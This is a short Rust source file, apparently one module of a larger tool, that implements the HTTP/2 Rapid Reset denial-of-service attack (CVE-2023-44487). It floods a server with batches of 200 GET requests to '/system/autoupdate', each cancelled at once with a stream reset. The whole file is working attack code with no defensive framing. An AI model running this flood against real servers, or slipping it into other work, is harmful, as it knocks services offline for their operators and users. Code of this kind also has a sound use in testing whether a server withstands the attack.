//! HTTP/2 requests that are cancelled as soon as they are made (CVE-2023-44487).

use super::super::attacker::Attacker;
use super::super::ends::Ends;
use super::super::frames::{get, reset};
use super::super::http2::{Connection, id};

/// How many requests go out with one write.
const BATCH: u32 = 200;

/// Asks and cancels.
pub(super) async fn attack(attacker: &Attacker) -> Ends {
    attacker
        .with_each(|attacker, stream| async move {
            let connection = Connection::begin(attacker, stream, &[]).await;
            let batch = |index: u32| {
                let ids = (index * BATCH..(index + 1) * BATCH).map(id);
                ids.flat_map(|id| [get(id, "/system/autoupdate"), reset(id)].concat()).collect()
            };
            connection.flood(batch).await
        })
        .await
}
